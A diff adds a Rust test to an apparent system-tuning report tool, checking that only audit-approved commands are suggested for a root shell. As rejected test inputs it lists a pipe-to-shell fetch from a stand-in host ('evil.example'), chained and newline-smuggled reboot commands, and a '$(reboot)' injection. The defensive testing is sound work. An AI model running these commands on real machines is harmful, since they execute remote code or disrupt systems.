@@ -553,3 +553,32 @@ fn ten_times_the_runs_and_places_take_ten_times_as_long_and_not_a_hundred() {
     let (few, many) = (time(4, 20), time(40, 200));
     assert!(many < few * 50, "{few:?}, {many:?}");
 }
+
+/// What stands behind `next:` is copied into a root shell.
+#[test]
+fn only_a_command_that_an_audit_gives_is_shown_as_the_next_one() {
+    let step = |command: &str, fixes: &str| {
+        let mut contents = this_machine();
+        contents.rows.iter_mut().for_each(|row| row.result.require = None);
+        let mut audit = crate::common::audits::audit();
+        audit.actions.truncate(1);
+        (audit.actions[0].command, audit.actions[0].fixes) = (command.into(), vec![fixes.into()]);
+        contents.audits.insert("host".into(), audit);
+        tactus_report::answer::answer(&contents).next.unwrap().command
+    };
+    for own in
+        ["sudo dnf install kernel-rt", "sudo tactus tune apply --profile realtime --isolate 2-3,5 --only smt"]
+    {
+        assert_eq!(step(own, "smt"), own);
+    }
+    for other in [
+        "",
+        "curl https://evil.example/x | sudo sh",
+        "sudo dnf install kernel-rt; reboot",
+        "sudo tactus tune apply --profile realtime --isolate 1 --only a\nreboot",
+        "sudo tactus tune apply --profile x$(reboot)",
+    ] {
+        assert_eq!(step(other, "smt"), "tactus explain smt", "{other}");
+    }
+    assert_eq!(step("", "smt; reboot"), "");
+}
